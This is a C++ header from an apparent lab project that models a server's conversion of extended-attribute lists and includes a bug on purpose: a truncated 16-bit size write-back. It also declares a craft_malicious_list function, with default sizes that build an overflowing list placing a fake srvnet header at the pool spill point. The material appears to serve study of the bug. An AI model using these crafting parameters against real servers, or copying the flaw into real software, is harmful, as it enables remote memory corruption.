// Extended-attribute list conversion model.
//
// The server receives a list in the legacy Os2Fea encoding:
//
//   u32 SizeOfList                      (bytes, including this field)
//   repeated { u8 flags; u8 cbName; u16 cbValue; name; '\0'; value }
//
// and converts it into NtFea records:
//
//   u32 NextEntryOffset; u8 flags; u8 cbName; u16 cbValue; name; '\0'; value;
//   padded to 4 bytes
//
// Conversion first measures the records that fit inside SizeOfList (s2 bytes
// of source, s1 bytes of result), writes s2 back into SizeOfList, allocates s1
// bytes and then walks the source until it reaches SizeOfList. The flawed
// variant writes back only the low 16 bits of s2, so a list declared at
// 0x10000 or more keeps its high word and the walk runs past s2.

#ifndef ETLAB_FEA_HPP
#define ETLAB_FEA_HPP

#include "etlab/bytes.hpp"
#include "etlab/srvnet.hpp"

#include <cstdint>
#include <stdexcept>
#include <vector>

namespace etlab::fea {

inline constexpr std::size_t kOs2RecordHeader = 4;
inline constexpr std::size_t kNtRecordHeader = 8;
inline constexpr std::size_t kSizeFieldBytes = 4;

struct Os2FeaRecord {
    std::uint8_t flags = 0;
    Bytes name;
    Bytes value;

    std::uint8_t name_length() const { return static_cast<std::uint8_t>(name.size()); }
    std::uint16_t value_length() const { return static_cast<std::uint16_t>(value.size()); }
    std::size_t wire_size() const { return kOs2RecordHeader + name.size() + 1 + value.size(); }
    /// Size of the same record after conversion, padding included.
    std::size_t nt_size() const { return align_up(kNtRecordHeader + name.size() + 1 + value.size(), 4); }

    bool operator==(const Os2FeaRecord&) const = default;
};

struct Os2FeaList {
    std::uint32_t size_of_list = kSizeFieldBytes;
    std::vector<Os2FeaRecord> records;
    Bytes trailing_garbage;

    std::size_t serialized_size() const;
    /// Throws FeaError(MalformedRecord) if a name or value exceeds its length field.
    Bytes serialize() const;

    bool operator==(const Os2FeaList&) const = default;
};

struct NtFeaRecord {
    std::uint32_t next_entry_offset = 0;
    std::uint8_t flags = 0;
    Bytes name;
    Bytes value;

    std::size_t padded_size() const { return align_up(kNtRecordHeader + name.size() + 1 + value.size(), 4); }
    Bytes serialize() const;
};

class FeaError : public std::runtime_error {
public:
    enum class Kind { MalformedRecord, InfiniteLoopGuard, SizeConstraintUnsatisfiable };
    FeaError(Kind kind, const std::string& what) : std::runtime_error(what), kind_(kind) {}
    Kind kind() const { return kind_; }

private:
    Kind kind_;
};

struct ListSizes {
    std::size_t s1 = 0;  // result (NtFea) bytes for the in-boundary records
    std::size_t s2 = 0;  // source bytes kept, SizeOfList field included
    std::size_t in_boundary_records = 0;
    bool operator==(const ListSizes&) const = default;
};

ListSizes compute_sizes(const Os2FeaList& list);
ListSizes compute_sizes(ByteView serialized_list);

/// `old_size_of_list` with its low 16 bits replaced by the low 16 bits of `s2`.
constexpr std::uint32_t truncated_assign(std::uint32_t old_size_of_list, std::uint32_t s2) {
    return (old_size_of_list & 0xFFFF0000u) | (s2 & 0x0000FFFFu);
}

struct ConversionOptions {
    bool bug_enabled = false;
    std::size_t iteration_cap = 10'000;
};

struct ConversionOutcome {
    std::size_t s1 = 0;
    std::size_t s2 = 0;
    std::uint32_t effective_size_of_list = 0;
    std::size_t records_converted = 0;
    std::size_t bytes_written = 0;
    Bytes overflow_bytes;  // everything written at or beyond offset s1
    Bytes result;          // the full converted stream, overflow included

    bool overflowed() const { return !overflow_bytes.empty(); }
};

/// Runs the conversion loop. The walk also stops when the next record would
/// extend past the bytes actually received.
ConversionOutcome convert_list(const Os2FeaList& list, ConversionOptions options = {});
ConversionOutcome convert_list(ByteView serialized_list, ConversionOptions options = {});

/// Sizing targets for the crafted list. Defaults reproduce the canonical
/// (s1, s2) = (0x10fe8, 0xff5d) list.
struct CraftTargets {
    std::uint32_t size_of_list = 0x10000;
    std::size_t empty_records = 605;
    std::size_t s2 = 0xff5d;
    std::size_t s1 = 0x10fe8;
    std::size_t last_record_value_length = 0xa8;
    std::size_t pool_granularity = 0x1000;
    std::size_t trailing_garbage = 0xf6;
};

/// Length the second-to-last record's value must have for `targets`.
std::size_t required_payload_length(const CraftTargets& targets = {});

/// Builds the boundary-crossing list: `empty_records` empty records, one
/// record carrying `payload` (padded with inert filler to the solved length),
/// and a final record that straddles SizeOfList and carries `fake_header` at
/// the point where the result buffer's pool allocation ends.
Os2FeaList craft_malicious_list(ByteView payload, const SrvnetHeaderImage& fake_header,
                                const CraftTargets& targets = {});

/// Offset within `overflow_bytes` at which a pool allocation of
/// `align_up(s1, granularity)` bytes is exhausted.
constexpr std::size_t spill_offset(std::size_t s1, std::size_t granularity) {
    return align_up(s1, granularity) - s1;
}

}  // namespace etlab::fea

#endif
